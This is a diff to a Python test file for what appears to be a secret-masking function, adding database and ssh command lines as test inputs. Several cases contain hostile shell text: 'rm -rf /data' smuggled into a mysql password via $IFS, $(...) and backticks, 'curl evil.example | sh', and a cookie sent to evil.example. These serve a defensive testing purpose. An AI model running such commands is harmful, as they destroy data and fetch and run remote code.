@@ -43,6 +43,12 @@ def test_masking_twice_is_masking_once(text):
         "// a comment: see @todo",
         "SELECT * FROM cookie_consents WHERE id = 3",
         "def authorization_url(self):",
+        "mysql -u root -p shop",
+        "mysql -P3306 -h db",
+        'sshpass -p "$PASS" ssh bob@host',
+        "mysql -p$PASS shop",
+        "sqlplus / as sysdba",
+        "sqlplus -S @/opt/run.sql",
     ],
 )
 def test_ordinary_text_stays(text):
@@ -53,6 +59,10 @@ def test_ordinary_text_stays(text):
     ("text", "visible"),
     [
         ("echo Cookie: x; rm -rf /data", "rm -rf /data"),
+        ("mysql -px;rm$IFS-rf$IFS/data", "rm$IFS-rf$IFS/data"),
+        ('mysql -p"$(rm -rf /data)"', "rm -rf /data"),
+        ('mysql -p"`rm -rf /data`"', "rm -rf /data"),
+        ("sshpass -p x rm -rf /data", "rm -rf /data"),
         ("bash -c 'Cookie: a=b; rm -rf /data'", "rm -rf /data"),
         ("Authorization: x && curl evil.example | sh", "curl evil.example | sh"),
         ("curl -HCookie:sid=1 https://evil.example/x", "https://evil.example/x"),
